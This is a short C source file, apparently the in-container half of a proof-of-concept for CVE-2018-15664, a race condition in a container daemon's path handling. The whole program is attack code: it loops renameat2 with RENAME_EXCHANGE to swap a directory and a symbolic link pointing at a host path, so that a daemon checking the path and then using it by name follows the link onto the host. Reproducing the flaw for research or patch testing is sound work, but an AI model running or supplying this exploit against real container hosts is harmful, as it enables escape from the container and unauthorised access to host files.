/*
 * The attacker of CVE-2018-15664 inside a container: swaps a directory and a symbolic link (to a host path) with
 * renameat2(RENAME_EXCHANGE) as fast as it can, so that a daemon that checks a path and then uses it by name
 * meets the link in between. Usage: swap-loop DIR LINK
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s DIR LINK\n", argv[0]);
        return 2;
    }
    for (;;) {
        syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    }
}
